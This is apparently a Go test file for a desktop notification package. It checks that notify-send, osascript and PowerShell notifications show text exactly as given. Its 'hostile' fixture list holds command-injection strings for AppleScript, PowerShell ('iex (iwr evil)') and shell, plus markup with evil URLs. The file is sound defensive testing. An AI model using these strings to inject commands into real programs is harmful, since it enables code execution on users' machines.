package notify

import (
	"context"
	"encoding/base64"
	"encoding/xml"
	"errors"
	"html"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"
)

// hostile are texts that some program on the way would obey if it read them.
var hostile = []string{
	`"; do shell script "touch /tmp/evil"; "`,
	`" & (do shell script "id") & "`,
	`'; Start-Process calc; '`,
	`'); iex (iwr evil) #`,
	"`$(Start-Process calc)`", `$(touch /tmp/evil)`, `$env:USERPROFILE %PATH% !PATH!`,
	"\u2018; calc; \u2019", "\u201c; calc; \u201d", // quotes to PowerShell
	"--help", "-e", "-EncodedCommand", "--", "-",
	`<b>bold</b> <img src="http://evil/"/> <a href="http://evil/">x</a>`, `&lt;b&gt;`, `]]></text><action/>`,
	`\033[2J \n \x41 \\ \`, "%TOAST%", "%s%n",
	"a\nb", "| id", "&& id",
}

// shown is a note as a program on the desktop would show it.
type shown struct{ title, body string }

// readers take the arguments of each system's program as that program does.
var readers = map[string]func(t *testing.T, args []string) shown{
	"linux": readFreedesktop, "freebsd": readFreedesktop, "darwin": readApple, "windows": readPowershell,
}

func TestDesktopShowsHostileTextAsItIs(t *testing.T) {
	for goos, read := range readers {
		for _, text := range hostile {
			t.Run(goos+"/"+text, func(t *testing.T) { checkShown(t, goos, read, text) })
		}
	}
}

func FuzzDesktop(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for goos, read := range readers {
			checkShown(t, goos, read, text)
		}
	})
}

// checkShown puts the text in every place of a message and compares what is shown
// with the message's plain words.
func checkShown(t *testing.T, goos string, read func(*testing.T, []string) shown, text string) {
	t.Helper()
	m := Message{Run: text, Status: text, Reason: text, Project: text, Agent: text, CostUSD: text, Question: text, Next: text}
	var args []string
	run := func(_ context.Context, _ string, given ...string) error { args = given; return nil }
	if err := Desktop(run, found, goos).Send(t.Context(), m); err != nil {
		t.Fatal(err)
	}
	clean := m.clean()
	want := shown{clean.title(), shorten(strings.Join(clean.details(), "\n"), maxDesktop)}
	if got := read(t, args); got != want {
		t.Errorf("shows %q, want %q", got, want)
	}
}

func found(name string) (string, error) { return "/there/" + name, nil }

// readFreedesktop reads as notify-send and a desktop with markup do.
func readFreedesktop(t *testing.T, args []string) shown {
	t.Helper()
	end := slices.Index(args, "--")
	if end < 0 || len(args) != end+3 {
		t.Fatalf("want options, --, a title and a body; got %q", args)
	}
	for _, option := range args[:end] {
		if option != "--app-name=ralph" && !strings.HasPrefix(option, "--urgency=") {
			t.Errorf("option %q", option)
		}
	}
	body := unescapeC(args[end+2])
	if strings.ContainsAny(body, "<>") {
		t.Errorf("the body holds markup: %s", body)
	}
	return shown{args[end+1], html.UnescapeString(body)}
}

// unescapeC undoes a backslash before a backslash, and makes any other escape
// show, since notify-send would make bytes of it.
func unescapeC(text string) string {
	return strings.NewReplacer(`\\`, `\`, `\`, "ESCAPE").Replace(text)
}

// readApple reads as osascript does: options up to the first argument without a
// dash, all of them of the fixed script.
func readApple(t *testing.T, args []string) shown {
	t.Helper()
	script := []string{
		"-e", "on run argv", "-e", "display notification (item 2 of argv) with title (item 1 of argv)", "-e", "end run",
	}
	if len(args) != len(script)+2 || !slices.Equal(args[:len(script)], script) || strings.HasPrefix(args[len(script)], "-") {
		t.Fatalf("want the fixed script, a title without a dash and a body; got %q", args)
	}
	return shown{args[len(script)], args[len(script)+1]}
}

// readPowershell undoes the coding of the script, and takes the document out of it
// where the fixed script has its mark.
func readPowershell(t *testing.T, args []string) shown {
	t.Helper()
	if len(args) != 4 || !slices.Equal(args[:3], []string{"-NoProfile", "-NonInteractive", "-EncodedCommand"}) {
		t.Fatalf("got %q", args)
	}
	if len(args[3]) > 30_000 {
		t.Errorf("%d characters do not fit a command line of Windows", len(args[3]))
	}
	before, after, _ := strings.Cut(toastScript, toastMark)
	coded, ok := strings.CutPrefix(decodeCommand(t, args[3]), before)
	coded, ok2 := strings.CutSuffix(coded, after)
	document, err := base64.StdEncoding.Strict().DecodeString(coded)
	if !ok || !ok2 || err != nil || strings.ContainsAny(coded, "\r\n'") {
		t.Fatalf("the script is not the fixed one: %s", coded)
	}
	var toast struct {
		Texts []string `xml:"visual>binding>text"`
	}
	if err := xml.Unmarshal(document, &toast); err != nil || len(toast.Texts) != 2 {
		t.Fatalf("the document is %s (%v)", document, err)
	}
	return shown{toast.Texts[0], toast.Texts[1]}
}

func decodeCommand(t *testing.T, coded string) string {
	t.Helper()
	raw, err := base64.StdEncoding.DecodeString(coded)
	if err != nil || len(raw)%2 != 0 {
		t.Fatalf("not base64 of UTF-16: %v", err)
	}
	var units []uint16
	for pair := range slices.Chunk(raw, 2) {
		units = append(units, uint16(pair[0])|uint16(pair[1])<<8)
	}
	return string(utf16.Decode(units))
}

func TestDesktopWithoutItsProgram(t *testing.T) {
	missing := func(string) (string, error) { return "", exec.ErrNotFound }
	run := func(context.Context, string, ...string) error { t.Error("something ran"); return nil }
	for goos, want := range map[string]string{
		"linux": "notify-send is not installed; install libnotify", "darwin": "osascript is not installed", "windows": "powershell is not installed",
	} {
		err := Desktop(run, missing, goos).Send(t.Context(), message())
		if !errors.Is(err, exec.ErrNotFound) || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: got %v, want %q", goos, err, want)
		}
	}
}

func TestDesktopTellsWhyItFailed(t *testing.T) {
	broken := errors.New("no display")
	run := func(context.Context, string, ...string) error { return broken }
	if err := Desktop(run, found, "linux").Send(t.Context(), message()); !errors.Is(err, broken) {
		t.Errorf("got %v", err)
	}
}

func TestDesktopQuestionsAreUrgent(t *testing.T) {
	for question, want := range map[string]string{"": "--urgency=normal", "Which?": "--urgency=critical"} {
		var args []string
		run := func(_ context.Context, _ string, given ...string) error { args = given; return nil }
		if err := Desktop(run, found, "linux").Send(t.Context(), Message{Question: question}); err != nil || !slices.Contains(args, want) {
			t.Errorf("question %q: arguments %q (%v), want %s", question, args, err, want)
		}
	}
}

func TestDesktopNotesAreShort(t *testing.T) {
	var args []string
	run := func(_ context.Context, _ string, given ...string) error { args = given; return nil }
	m := message()
	m.Question = strings.Repeat("é", 4000)
	if err := Desktop(run, found, "darwin").Send(t.Context(), m); err != nil {
		t.Fatal(err)
	}
	if n := utf8.RuneCountInString(readApple(t, args).body); n != 400 {
		t.Errorf("%d characters, want 400", n)
	}
}

// A real program gets the arguments as they were made; here, this binary stands in
// for notify-send.
func TestDesktopRunsARealProgram(t *testing.T) {
	file := filepath.Join(t.TempDir(), "got")
	t.Setenv(helperVar, "record")
	t.Setenv(targetVar, file)
	m := message()
	m.Reason = strings.Join(hostile, " ")
	look := func(string) (string, error) { return os.Args[0], nil }
	if err := Desktop(nil, look, "linux").Send(t.Context(), m); err != nil {
		t.Fatal(err)
	}
	got := readFreedesktop(t, readRecorded(t, file).Args)
	if got.title != "ralph: needs-attention: shop" || !strings.Contains(got.body, "\nnext: ralph resume 20260102-030405-ab\nreason: \"; do shell") {
		t.Errorf("shows %q", got)
	}
}

func TestDesktopRealProgramThatFails(t *testing.T) {
	t.Setenv(helperVar, "fail")
	look := func(string) (string, error) { return os.Args[0], nil }
	err := Desktop(nil, look, "linux").Send(t.Context(), message())
	if err == nil || !strings.Contains(err.Error(), "cannot reach the pager") {
		t.Errorf("got %v", err)
	}
}

func TestDesktopIsThisSystemsByDefault(t *testing.T) {
	var path string
	run := func(_ context.Context, name string, _ ...string) error { path = name; return nil }
	if err := Desktop(run, found, "").Send(t.Context(), message()); err != nil || !strings.HasPrefix(path, "/there/") {
		t.Errorf("ran %q (%v)", path, err)
	}
}
